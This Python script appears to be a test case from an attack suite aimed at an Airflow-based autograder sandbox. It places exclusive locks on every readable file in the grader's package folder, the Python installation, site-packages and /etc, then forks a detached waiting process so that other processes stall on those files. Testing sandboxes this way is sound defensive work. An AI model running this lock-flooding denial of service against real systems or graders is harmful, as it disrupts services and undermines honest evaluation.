"""Locks every file that it can read, so that others wait for it."""

import fcntl
import os
import site
import sys
from pathlib import Path

from airflow_attack import attack, tried, wait

import autograder


def work() -> None:
    locked = []
    folders = (
        Path(autograder.__file__).parent,
        Path(sys.prefix),
        Path(site.getsitepackages()[0]),
        Path("/etc"),
    )
    for folder in folders:
        for path in (path for path in folder.glob("*") if path.is_file()):
            try:
                descriptor = os.open(path, os.O_RDONLY)
                fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
                locked.append(descriptor)
            except OSError:
                continue
    if os.fork() == 0:
        os.setsid()
        wait(1000)
        os._exit(0)
    tried(f"{len(locked)} locks")


dag = attack(work)
